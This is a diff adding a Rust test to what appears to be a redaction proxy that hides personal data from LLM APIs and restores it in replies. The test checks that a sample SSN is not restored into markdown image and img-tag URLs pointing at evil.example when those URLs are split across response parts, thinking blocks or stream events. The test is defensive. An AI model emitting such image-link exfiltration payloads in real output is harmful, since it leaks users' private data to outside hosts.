@@ -219,6 +219,96 @@ fn json_in_prose_is_one_text_to_who_shows_it() {
 }
 
 #[test]
+fn parts_are_shown_one_behind_the_other() {
+    let user = json!({"role": "user", "content": "SSN 531-27-8846"});
+    let apart: [&[&str]; 4] = [
+        &["![x](https://evil.example/?q=", "<1>)"],
+        &["![x](https://evil.example/?q=", "", "<1>)"],
+        &["<img src=\"https://evil.example/?q=", "<1>", "\">"],
+        &["[\"![x](https://evil.example/?q=\"]", "<1>"],
+    ];
+    let text = |text: &&str| json!({"type": "output_text", "text": text});
+    let claude = |text: &&str| json!({"type": "text", "text": text});
+    for texts in apart {
+        let mut talk = talk(PayloadKind::OpenAi);
+        talk.redact(&json!({"messages": [user]}));
+        let parts: Vec<Value> = texts.iter().map(text).collect();
+        let reply = json!({"output": [{"type": "message", "role": "assistant", "content": parts}]});
+        assert_eq!(talk.restore(&reply), reply);
+        let messages: Vec<Value> = parts
+            .iter()
+            .map(|part| json!({"type": "message", "role": "assistant", "content": [part]}))
+            .collect();
+        let reply = json!({"output": messages});
+        assert_eq!(talk.restore(&reply), reply);
+        let parts: Vec<Value> = texts.iter().map(claude).collect();
+        let reply = json!({"choices": [{"index": 0, "message": {"content": parts}}]});
+        assert_eq!(talk.restore(&reply), reply);
+    }
+    for texts in apart {
+        let mut talk = talk(PayloadKind::Anthropic);
+        talk.redact(&json!({"messages": [user]}));
+        let mut parts: Vec<Value> = texts.iter().map(claude).collect();
+        let reply = json!({"role": "assistant", "content": parts});
+        assert_eq!(talk.restore(&reply), reply);
+        // What is not shown between them closes nothing.
+        parts.insert(
+            1,
+            json!({"type": "thinking", "thinking": "\n\n\"></a>", "signature": "A"}),
+        );
+        let reply = json!({"role": "assistant", "content": parts});
+        assert_eq!(talk.restore(&reply), reply);
+        // Blocks of a stream, the first with its text at its beginning or in a piece.
+        for begins in [true, false] {
+            let mut frames = String::new();
+            for (at, text) in texts.iter().enumerate() {
+                let (first, piece) = if begins && at == 0 {
+                    (*text, "")
+                } else {
+                    ("", *text)
+                };
+                for event in [
+                    json!({"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": first}}),
+                    json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": piece}}),
+                    json!({"type": "content_block_stop", "index": at}),
+                ] {
+                    frames += &format!("data: {event}\n\n");
+                }
+            }
+            let frames = talk.with_tokens(&frames);
+            let (mut stream, mut out) = (talk.session.restore_sse(), Vec::new());
+            stream.push(frames.as_bytes(), &mut out).unwrap();
+            stream.finish(&mut out).unwrap();
+            // What was held comes in a frame of its own.
+            let out = String::from_utf8(out).unwrap();
+            assert!(
+                !out.contains("531-27-8846") && out.contains(&talk.tokens[0]),
+                "{out}"
+            );
+        }
+    }
+    for texts in apart {
+        let mut talk = talk(PayloadKind::Gemini);
+        talk.redact(
+            &json!({"contents": [{"role": "user", "parts": [{"text": "SSN 531-27-8846"}]}]}),
+        );
+        let mut parts: Vec<Value> = texts.iter().map(|text| json!({"text": text})).collect();
+        parts.insert(1, json!({"text": "\n\n\"></a>", "thought": true}));
+        let reply =
+            json!({"candidates": [{"index": 0, "content": {"role": "model", "parts": parts}}]});
+        assert_eq!(talk.restore(&reply), reply);
+    }
+    // Other choices, and what is closed, keep nothing back.
+    let mut talk = talk(PayloadKind::OpenAi);
+    talk.redact(&json!({"messages": [user]}));
+    let choice = |at: usize, texts: &[&str]| json!({"index": at, "message": {"content": texts.iter().map(claude).collect::<Vec<_>>()}});
+    let reply =
+        json!({"choices": [choice(0, &["![x](/a"]), choice(1, &["![x](/a", ") <1>", "<1>"])]});
+    let expected = json!({"choices": [choice(0, &["![x](/a"]), choice(1, &["![x](/a", ") 531-27-8846", "531-27-8846"])]});
+    assert_eq!(talk.restore(&reply), expected);
+}
+
+#[test]
 fn ids_and_names_are_never_restored() {
     let mut talk = talk(PayloadKind::OpenAi);
     talk.redact(&json!({"messages": [{"role": "user", "content": "SSN 531-27-8846"}]}));
